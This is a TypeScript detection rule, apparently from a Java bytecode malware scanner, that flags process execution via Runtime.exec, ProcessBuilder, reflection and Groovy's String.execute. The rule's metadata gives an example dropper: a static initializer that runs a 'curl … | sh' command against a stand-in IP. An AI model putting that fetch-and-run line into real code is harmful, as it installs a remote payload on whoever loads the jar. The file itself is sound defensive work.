import { analyzeCommand, type CommandTechnique } from '../../shell/command.js';
import type { JavaRule, MethodUnit } from '../engine.js';
import { commandText, knownString, type StringUse, type Value } from '../interpret.js';
import { CONTEXT_PHRASE, isEarly, java, renderCall, taintOf } from './helpers.js';

/** `rundll32 url.dll,FileProtocolHandler URL` is Java's classic "open in the default browser" idiom on Windows. */
function browserOpen(t: CommandTechnique, line: string): boolean {
  return t.id === 'lolbin' && /rundll32(\.exe)?\s+url\.dll\s*,\s*FileProtocolHandler/i.test(line);
}

/** Flags Runtime.exec / ProcessBuilder, naming the command and the shell technique it uses. */
export const processExec: JavaRule = {
  meta: {
    ...java,
    id: 'JAVA-001',
    name: 'java-process-execution',
    category: 'execution',
    severity: 'medium',
    confidence: 'medium',
    description:
      'Bytecode starts an operating-system process (Runtime.exec, ProcessBuilder), directly or through reflection.',
    rationale:
      'Libraries rarely need to run programs; droppers run `curl … | sh`, PowerShell or a downloaded binary from a static initializer or an auto-configured bean so it happens as soon as the jar is on the class path.',
    falsePositives:
      'Terminal libraries (jline runs `stty`/`tput`), build tooling and OS integration code that shells out to fixed helper commands.',
    example:
      'static { Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", "curl http://192.0.2.1/x | sh"}); }',
    references: [
      'https://attack.mitre.org/techniques/T1059/',
      'https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html',
    ],
  },
  create(ctx) {
    return {
      // Groovy compiles `"cmd".execute()` to a dynamic call site: the method name only appears in
      // the class's $createCallSiteArray_1 table, never as an invoke instruction.
      class(unit) {
        const table = unit.methods.find((m) => m.method.name === '$createCallSiteArray_1');
        if (!table?.summary.strings.some((s) => s.value === 'execute')) return;
        let best: { m: MethodUnit; s: StringUse; t?: CommandTechnique } | undefined;
        for (const m of unit.methods) {
          if (m === table) continue;
          for (const s of m.summary.strings) {
            const t = analyzeCommand(s.value).find((x) => x.severity === 'high' || x.severity === 'critical');
            if (t && !best?.t) best = { m, s, t };
          }
        }
        const at = best?.m ?? unit.methods.find((m) => m.method.name === 'run') ?? table;
        ctx.report({
          at,
          pc: best?.s.pc ?? 0,
          code: best ? `${JSON.stringify(best.s.value.slice(0, 100))}.execute()` : 'callSite("execute")',
          category: best?.t?.category ?? 'execution',
          severity: best?.t?.severity ?? (isEarly(at.context) ? 'medium' : 'low'),
          confidence: best?.t ? 'high' : 'low',
          message: `Groovy code runs commands through String.execute()${best?.t ? `: ${best.t.description} (\`${best.s.value.slice(0, 100)}\`)` : ''}.`,
          evidence: { language: 'groovy', command: best?.s.value },
        });
      },
      call(call, m) {
        const { owner, name } = call.ref;
        let command: Value | undefined;
        let via = '';
        if (owner === 'java/lang/Runtime' && name === 'exec') command = call.args[0];
        else if (owner === 'java/lang/ProcessBuilder' && (name === '<init>' || name === 'command'))
          command = call.args[0];
        else if (owner === 'java/lang/reflect/Method' && name === 'invoke') {
          const target = call.receiver?.member ?? '';
          if (!/^(java\.lang\.Runtime\.exec|java\.lang\.ProcessBuilder\.start|\?\.exec)$/.test(target))
            return;
          command = call.args[1];
          via = ' through reflection';
        } else return;
        const text = commandText(command);
        // `sh -c SCRIPT` arrays: the script element is a command line of its own.
        const lines = [text, ...(command?.arr?.items.map((i) => knownString(i)) ?? [])].filter(
          (x): x is string => !!x,
        );
        const techniques: CommandTechnique[] = [];
        for (const line of lines)
          for (const t of analyzeCommand(line))
            if (
              (t.severity === 'high' || t.severity === 'critical') &&
              !techniques.some((x) => x.id === t.id) &&
              !browserOpen(t, text ?? line)
            )
              techniques.push(t);
        // The command went through a field or collection: a dangerous command line among the
        // method's own strings is what it runs.
        if (techniques.length === 0 && text === undefined)
          for (const str of m.summary.strings) {
            // whole command lines only: a lone program name ("rundll32") says nothing on its own
            if (!/\S\s+\S/.test(str.value) || str.value.length > 2048) continue;
            for (const t of analyzeCommand(str.value))
              if (
                (t.severity === 'high' || t.severity === 'critical') &&
                t.id !== 'lolbin' &&
                !techniques.some((x) => x.id === t.id)
              ) {
                techniques.push(t);
                lines.push(str.value);
              }
          }
        const taint = taintOf(command);
        const hidden = taint.has('decoded') || taint.has('decrypted') || taint.has('network');
        const where = CONTEXT_PHRASE[m.context];
        if (techniques.length > 0) {
          const t = techniques[0]!;
          ctx.report({
            at: m,
            pc: call.pc,
            code: renderCall(call),
            category: t.category,
            severity: t.severity,
            confidence: 'high',
            message: `Runs a command${via} ${where}: ${t.description} (\`${(text ?? lines.at(-1) ?? '').slice(0, 120)}\`).`,
            evidence: { command: text ?? lines.at(-1), techniques: techniques.map((x) => x.id) },
          });
          return;
        }
        ctx.report({
          at: m,
          pc: call.pc,
          code: renderCall(call),
          category: hidden ? 'dropper' : 'execution',
          severity: hidden || via ? 'high' : isEarly(m.context) ? 'medium' : 'low',
          confidence: hidden || via ? 'medium' : 'low',
          message: `Starts a process${via}${text ? ` (\`${text.slice(0, 120)}\`)` : ''}${hidden ? ' whose command is decoded or downloaded at run time' : ''}${where ? ` ${where}` : ''}.`,
          evidence: { command: text, taint: [...taint] },
        });
      },
    };
  },
};
